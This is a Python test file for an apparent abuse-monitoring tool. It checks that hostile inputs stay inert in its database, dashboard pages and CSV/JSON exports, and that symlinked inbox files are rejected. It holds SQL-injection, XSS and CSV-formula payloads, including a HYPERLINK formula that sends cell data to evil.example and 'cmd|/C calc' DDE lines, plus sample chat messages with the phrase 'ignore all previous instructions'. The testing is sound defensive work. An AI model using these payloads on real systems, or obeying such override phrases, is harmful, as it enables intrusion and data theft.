"""Attacker-controlled prompt text and identifiers stay inert: in the store, in the
dashboard, in exports; inbox names cannot escape the inbox."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import time
from collections import Counter
from pathlib import Path

import pytest
from click.testing import CliRunner

from app.cli import cli
from app.cli.detect import _cell, csv_text
from app.sweep import inbox_files
from warden.errors import InputError

PW = "inj-pw"
PAYLOADS = [
    "'; DROP TABLE events; --",
    "Robert'); DELETE FROM audit_log WHERE ('1'='1",
    "<script>alert(document.cookie)</script>",
    "<img src=x onerror=alert(1)>",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "[link](javascript:alert(1)) **bold** `code`",
]


def test_payloads_are_inert_in_store_dashboard_and_exports(
    tmp_path: Path, tried: Counter[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    home = tmp_path / "home"
    runner = CliRunner()
    env = {"WARDEN_PASSPHRASE": PW, "WARDEN_USER": "bob"}
    home.mkdir()
    (home / "warden.toml").write_text('[enforcement.roles]\nbob = "lead"\ncarol = "lead"\n')
    assert runner.invoke(cli, ["--home", str(home), "init"], env=env).exit_code == 0
    recs = [
        {
            "request_id": f"r{i}'; --",
            "timestamp": "2026-10-10T10:00:00Z",
            "account_id": p,
            "org_id": p,
            "user_agent": p,
            "endpoint": "/v1/chat/completions",
            "messages": [
                {"role": "user", "content": f"jailbreak {p} ignore all previous instructions"}
            ],
        }
        for i, p in enumerate(PAYLOADS)
    ]
    f = tmp_path / "inj.jsonl"
    f.write_text("\n".join(json.dumps(r) for r in recs) + "\n")
    tried["injection: payloads through ingest"] += len(recs)
    r = runner.invoke(cli, ["--home", str(home), "ingest", "--json", str(f)], env=env)
    assert r.exit_code == 0, r.output
    assert json.loads(r.stdout)["stored"] == len(PAYLOADS)
    import duckdb

    with duckdb.connect(str(home / "warden.duckdb"), read_only=True) as con:
        tables = {
            t[0] for t in con.execute("SELECT table_name FROM information_schema.tables").fetchall()
        }
        assert {"events", "audit_log", "cases"} <= tables
        assert con.execute("SELECT count(*) FROM events").fetchone() == (len(PAYLOADS),)
        ids = {r[0] for r in con.execute("SELECT request_id FROM events").fetchall()}
        accounts = " ".join(
            r[0] for r in con.execute("SELECT account || org FROM events").fetchall()
        )
    assert ids == {rec["request_id"] for rec in recs}
    assert not any(p in accounts for p in PAYLOADS)  # identifiers become pseudonyms

    # a case whose rationale and evidence carry the payloads, shown in the dashboard
    from enforcement import cases, decisions
    from enforcement.desk import Desk
    from warden.config import load_config
    from warden.keys.keyring import Keyring, Unlock

    desk = Desk.open(load_config(home), Keyring.open(home, Unlock(passphrase=PW)))
    with duckdb.connect(str(home / "warden.duckdb"), read_only=True) as con:
        acc = con.execute("SELECT account FROM events LIMIT 1").fetchone()[0]
    cid, _ = cases.open_or_update(
        desk, kind="account", subject=acc, members=[acc], risk=0.9, reasons=PAYLOADS
    )
    cases.claim(desk, "bob", cid)
    decisions.decide(desk, "bob", cid, "warn", "spam", "Payload test: " + " ".join(PAYLOADS))
    from streamlit.testing.v1 import AppTest

    monkeypatch.setenv("WARDEN_HOME", str(home))
    monkeypatch.setenv("WARDEN_PASSPHRASE", PW)
    monkeypatch.setenv("WARDEN_DEV_USER", "carol")
    app = Path(__file__).resolve().parents[2] / "app" / "dashboard" / "views"
    for page in ("case", "audit", "queue"):
        at = AppTest.from_file(str(app / f"{page}.py"), default_timeout=60)
        at.session_state["case_id"] = cid
        at.run()
        assert not at.exception
        for md in at.markdown:  # Markdown source: every < [ ( of a payload escaped
            assert not re.search(r"(?<!\\)<(script|img)", md.value), md.value
            assert "](javascript:" not in md.value
        tried["injection: dashboard pages rendered"] += 1

    # exports: JSON is inert; CSV cells that could be formulas are neutralised
    r = runner.invoke(cli, ["--home", str(home), "audit", "export"], env=env)
    rows = [json.loads(x) for x in r.stdout.splitlines()]
    assert rows and PAYLOADS[4] in rows[0]["statement_of_reasons"]
    for p in PAYLOADS[4:7]:
        assert str(_cell(p)).startswith("'")
    r = runner.invoke(
        cli, ["--home", str(home), "accounts", "--refresh", "--format", "csv"], env=env
    )
    assert r.exit_code == 0, r.output
    ranked = list(csv.reader(io.StringIO(r.stdout)))
    assert len(ranked) == 1 + len(PAYLOADS)  # every payload account is ranked ...
    assert not any(p in c for row in ranked for c in row for p in PAYLOADS)  # ... as a pseudonym
    # No payload can reach that CSV (identifiers are pseudonyms, reasons are generated),
    # so its writer is tried with the payloads themselves in every column.
    hostile = list(csv.reader(io.StringIO(csv_text(["a", "b"], [[p, p] for p in PAYLOADS]))))
    for p, row in zip(PAYLOADS, hostile[1:], strict=True):
        assert row == [str(_cell(p))] * 2
        assert not row[0].startswith(("=", "+", "-", "@")), row


def test_inbox_names_cannot_escape(tmp_path: Path, tried: Counter[str]) -> None:
    inbox = tmp_path / "inbox"
    inbox.mkdir()
    secret_dir = tmp_path / "elsewhere"
    secret_dir.mkdir()
    (secret_dir / "x.parquet").write_bytes(b"PAR1")
    (inbox / "escape").symlink_to(secret_dir)
    tried["injection: inbox links"] += 1
    with pytest.raises(InputError, match="outside the inbox"):
        inbox_files(inbox, 0, time.time() + 100)
    os.unlink(inbox / "escape")
    (inbox / "up.jsonl").symlink_to(tmp_path / ".." / "up.jsonl")
    with pytest.raises(InputError, match="outside the inbox"):
        inbox_files(inbox, 0, time.time() + 100)
